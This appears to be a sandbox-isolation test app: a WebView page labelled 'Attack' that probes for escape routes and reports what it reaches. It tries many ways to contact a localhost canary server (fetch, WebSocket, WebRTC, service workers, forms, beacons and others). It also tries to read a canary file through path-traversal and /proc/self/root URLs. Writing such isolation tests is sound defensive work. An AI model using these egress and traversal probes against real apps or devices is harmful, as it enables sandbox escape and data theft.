import { defineScreens, useApi, WebView, type WebViewHandle } from '@androidworld/app-sdk/ui';
import { useEffect, useRef } from 'preact/hooks';

/** An app with a page that tries to reach the host; what came of it is told in a toast. */

/** Set when it is bundled. */
declare const CANARY: { readonly file: string; readonly tcpPort: number; readonly udpPort: number };

const server = `127.0.0.1:${CANARY.tcpPort}`;

/** In the page, after which `outcome` holds all that it got hold of. */
async function attack(http: string, udpPort: number, file: string): Promise<string> {
  const got: string[] = [];
  const within = (work: Promise<unknown>) =>
    Promise.race([work, new Promise((resolve) => setTimeout(resolve, 1_500))]).then(
      (value) => got.push(String(value)),
      (error: unknown) => got.push(String(error)),
    );
  const element = (name: string, attributes: Readonly<Record<string, string>>) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    document.body.append(made);
    return new Promise((resolve) => {
      made.onload = () => resolve(`${name} loaded`);
      made.onerror = () => resolve(`${name} failed`);
    });
  };
  const files = [
    `file://${file}`,
    file,
    `/proc/self/root${file}`,
    `/${'..%2f'.repeat(30)}${file.slice(1)}`,
    `/android_asset/${'..%2f'.repeat(30)}${file.slice(1)}`,
    `//${http}/x`,
  ];
  const urls = [`http://${http}/x`, `ws://${http}/x`, ...files];
  await Promise.all([
    ...urls.map((url) => within(fetch(url, { mode: 'no-cors' }).then((reply) => reply.text()))),
    ...urls.map((url) => within(import(/* @vite-ignore */ url))),
    within(
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.onloadend = () => resolve(request.responseText);
        request.open('GET', `http://${http}/xhr`);
        request.onerror = reject;
        request.send();
      }),
    ),
    within(
      new Promise((resolve) => {
        const socket = new WebSocket(`ws://${http}/socket`);
        socket.onopen = () => resolve('open');
        socket.onerror = () => resolve('refused');
      }),
    ),
    within(
      new Promise((resolve) => {
        const events = new EventSource(`http://${http}/events`);
        events.onerror = () => resolve('refused');
      }),
    ),
    within(
      (async () => {
        const peer = new RTCPeerConnection({
          iceServers: [
            { urls: [`stun:127.0.0.1:${udpPort}`] },
            { urls: `turn:${http}?transport=tcp`, username: 'a', credential: 'b' },
          ],
        });
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((resolve) => setTimeout(resolve, 1_000));
      })(),
    ),
    within(
      (async () => {
        const transport = new (
          globalThis as unknown as { WebTransport: new (url: string) => { ready: Promise<void> } }
        ).WebTransport(`https://127.0.0.1:${udpPort}/`);
        await transport.ready;
      })(),
    ),
    within((async () => navigator.sendBeacon(`http://${http}/beacon`, 'x'))()),
    within(Promise.resolve(navigator.serviceWorker?.register(`http://${http}/worker.js`))),
    within(navigator.serviceWorker?.register(`data:text/javascript,fetch('http://${http}/')`) ?? Promise.resolve()),
    within(
      (async () =>
        new Worker(
          URL.createObjectURL(new Blob([`fetch('http://${http}/worker');importScripts('http://${http}/script')`])),
        ))(),
    ),
    ...['img', 'script', 'iframe', 'audio', 'video', 'embed', 'track', 'input'].flatMap((name) =>
      [`http://${http}/${name}`, `file://${file}`].map((src) =>
        within(element(name, { src, type: name === 'input' ? 'image' : '' })),
      ),
    ),
    ...[
      'prefetch',
      'preload',
      'preconnect',
      'dns-prefetch',
      'stylesheet',
      'modulepreload',
      'prerender',
      'manifest',
      'icon',
    ].map((rel) => within(element('link', { rel, href: `http://${http}/${rel}`, as: 'fetch' }))),
    within(element('object', { data: `http://${http}/object` })),
    within(
      element('iframe', { srcdoc: `<script>fetch('http://${http}/frame')</script><img src="http://${http}/framed">` }),
    ),
    within(element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' })),
    within(element('style', {}).then(() => undefined)),
    within(
      (async () => {
        document.body.style.backgroundImage = `url(http://${http}/background)`;
        await new FontFace('x', `url(http://${http}/font)`).load();
      })(),
    ),
    within(
      (async () => {
        const anchor = document.createElement('a');
        anchor.href = `http://${http}/download`;
        anchor.download = 'x';
        anchor.target = 'elsewhere';
        anchor.ping = `http://${http}/ping`;
        document.body.append(anchor);
        anchor.click();
      })(),
    ),
    within(
      (async () => {
        const form = document.createElement('form');
        form.action = `http://${http}/form`;
        form.method = 'post';
        form.target = 'elsewhere';
        document.body.append(form);
        form.submit();
      })(),
    ),
    ...[`http://${http}/open`, `file://${file}`].map((url) => within((async () => window.open(url))())),
    ...['top', 'parent'].map((name) =>
      within(
        (async () => {
          const frame = (window as unknown as Record<string, Window>)[name];
          if (frame !== undefined) frame.location.href = `http://${http}/${name}`;
        })(),
      ),
    ),
  ]);
  return got.join('\n');
}

const page = `<title>Attack</title><body><script>
(${attack.toString()})(${JSON.stringify(server)}, ${CANARY.udpPort}, ${JSON.stringify(CANARY.file)})
  .then((outcome) => { window.outcome = outcome; }, (error) => { window.outcome = 'failed: ' + error; });
</script>`;

function Attack() {
  const api = useApi();
  const view = useRef<WebViewHandle | null>(null);
  useEffect(() => {
    const timer = setInterval(() => {
      void view.current?.evaluateJavascript('window.outcome').then((outcome) => {
        if (outcome === 'null') return;
        clearInterval(timer);
        void api.toast(outcome);
      });
    }, 100);
    return () => clearInterval(timer);
  }, []);
  return <WebView id="page" html={page} webRef={view} />;
}

export default defineScreens({ activities: { 'escape.Attack': Attack } });
